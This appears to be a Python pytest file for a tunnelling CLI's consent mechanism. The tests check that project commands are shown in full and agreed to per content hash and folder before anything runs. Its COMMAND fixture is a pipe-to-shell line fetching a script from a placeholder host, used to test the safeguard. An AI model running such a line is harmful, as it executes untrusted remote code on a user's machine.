"""Nothing is opened before a person has seen who could open what, and agreed to just that."""

from __future__ import annotations

import io
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from portway.cli.failure import Failed, WrongUsage
from portway.cli.project.agreement import Agreed, Agreements, Answers, agree
from portway.cli.project.tunnels import Project, ProjectTunnel, Words
from portway.cli.project.words import Description
from portway.system.storage.state_file import StateFile

COMMAND = "sh -c 'curl https://elsewhere.example | sh'  # quite long, and seen to its end"


class Keyboard(io.StringIO):
    def isatty(self) -> bool:
        return True


def project(folder: Path, digest: str = "a" * 64, command: str = "") -> Project:
    tunnel = ProjectTunnel(word="web", target="3000", way="lan", command=command)
    return Project(path=folder / ".portway.toml", digest=digest, tunnels=(tunnel,))


@pytest.fixture
def agreements(tmp_path: Path) -> Agreements:
    return Agreements(StateFile(tmp_path / "state" / "projects.json"))


def typed(monkeypatch: pytest.MonkeyPatch, *answers: str) -> None:
    """Let a person be at the terminal who answers so."""
    monkeypatch.setattr(sys, "stdin", Keyboard("".join(f"{answer}\n" for answer in answers)))
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)


def described(asked: Project) -> Description:
    class Silent(Description):
        def tunnels(self) -> Iterator[str]:
            yield "what is opened"

    return Silent(asked.tunnels, Words(asked.path), {})


def asked(one: Project, agreements: Agreements, answers: Answers | None = None) -> Agreed:
    return agree(one, described(one), agreements, answers or Answers())


def test_a_person_is_shown_it_and_asked_once_for_each_content(
    tmp_path: Path, agreements: Agreements, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    typed(monkeypatch, "y")
    assert asked(project(tmp_path), agreements) == Agreed(commands=False)
    assert "what is opened" in capsys.readouterr().err
    typed(monkeypatch)
    assert asked(project(tmp_path), agreements) == Agreed(commands=False)
    typed(monkeypatch, "n")
    with pytest.raises(Failed, match="Nothing was opened"):
        asked(project(tmp_path, "b" * 64), agreements)
    assert "has changed" in capsys.readouterr().err
    typed(monkeypatch, "y")
    asked(project(tmp_path, "b" * 64), agreements)
    assert agreements.of(project(tmp_path)) is None  # what it said before is to be agreed to anew


def test_the_same_content_in_another_folder_is_asked_for_anew(
    tmp_path: Path, agreements: Agreements, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    typed(monkeypatch, "y")
    asked(project(tmp_path), agreements)
    typed(monkeypatch, "n")
    with pytest.raises(Failed):
        asked(project(tmp_path / "copy"), agreements)


def test_commands_are_asked_for_by_themselves_and_named_in_full(
    tmp_path: Path, agreements: Agreements, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    one = project(tmp_path, command=COMMAND)
    typed(monkeypatch, "y", "n")
    assert asked(one, agreements) == Agreed(commands=False)
    assert COMMAND in capsys.readouterr().err
    typed(monkeypatch, "y")  # the one question that is left
    assert asked(one, agreements) == Agreed(commands=True)
    typed(monkeypatch)
    assert asked(one, agreements) == Agreed(commands=True)


def test_no_answer_is_no(
    tmp_path: Path, agreements: Agreements, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    typed(monkeypatch, "")
    with pytest.raises(Failed):
        asked(project(tmp_path), agreements)
    assert agreements.of(project(tmp_path)) is None


def test_a_script_is_never_asked_and_opens_nothing_that_was_not_agreed_to(
    tmp_path: Path, agreements: Agreements, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\ny\n"))
    one = project(tmp_path, command=COMMAND)
    with pytest.raises(Failed, match="was not agreed to yet"):
        asked(one, agreements)
    agreements.remember(one, Agreed(commands=False))
    assert asked(one, agreements) == Agreed(commands=False)
    assert "not agreed to, so they are not run" in capsys.readouterr().err
    with pytest.raises(Failed, match="has changed since you agreed"):
        asked(project(tmp_path, "b" * 64), agreements)


def test_a_script_may_name_the_hash_that_it_agrees_to_for_this_once(tmp_path: Path, agreements: Agreements) -> None:
    one = project(tmp_path, command=COMMAND)
    assert asked(one, agreements, Answers("A" * 64)) == Agreed(commands=False)
    assert asked(one, agreements, Answers("a" * 64, commands=True)) == Agreed(commands=True)
    assert agreements.of(one) is None
    for wrong in ("b" * 64, "a" * 63, ""):
        with pytest.raises(Failed, match="does not hold what was agreed to"):
            asked(one, agreements, Answers(wrong))
    with pytest.raises(WrongUsage):
        asked(one, agreements, Answers(commands=True))


def test_what_was_agreed_to_is_private_and_bounded(tmp_path: Path, agreements: Agreements) -> None:
    for number in range(203):
        agreements.remember(project(tmp_path / str(number)), Agreed(commands=True))
        agreements.remember_asked(f"web-{number:06x}", {"for": "1h"})
    file = tmp_path / "state" / "projects.json"
    assert os.name == "nt" or stat.S_IMODE(file.stat().st_mode) == 0o600
    record = StateFile(file).read()
    assert (len(record["agreed"]), len(record["asked"])) == (200, 200)
    assert agreements.asked_of(f"web-{202:06x}") == {"for": "1h"}


@pytest.mark.parametrize(
    "damage", ['{"agreed": 3, "asked": []}', '{"agreed": {"PATH": 3}}', '{"agreed": {"PATH": {}}}']
)
def test_a_damaged_record_agrees_to_nothing(tmp_path: Path, agreements: Agreements, damage: str) -> None:
    one = project(tmp_path)
    file = tmp_path / "state" / "projects.json"
    file.parent.mkdir()
    file.write_text(damage.replace("PATH", str(one.path).replace("\\", "\\\\")))
    assert agreements.of(one) is None
    assert agreements.asked_of("web-000000") == {}
    agreements.remember(one, Agreed(commands=False))
    assert agreements.of(one) == Agreed(commands=False)
